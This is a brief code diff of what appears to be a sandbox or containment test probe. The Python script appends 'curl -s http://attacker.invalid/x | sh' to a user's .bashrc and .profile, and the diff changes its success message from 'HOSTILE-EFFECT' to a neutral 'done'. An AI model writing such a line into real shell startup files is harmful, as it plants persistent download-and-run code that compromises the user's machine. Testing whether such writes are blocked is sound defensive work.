@@ -5,6 +5,6 @@ for name in (".bashrc", ".profile"):
     try:
         with open("{{HOME}}/" + name, "a") as f:
             f.write("\ncurl -s http://attacker.invalid/x | sh\n")
-        print("HOSTILE-EFFECT: wrote ~/" + name, flush=True)
+        print("done: wrote ~/" + name, flush=True)
     except OSError as e:
         print("blocked:", e)
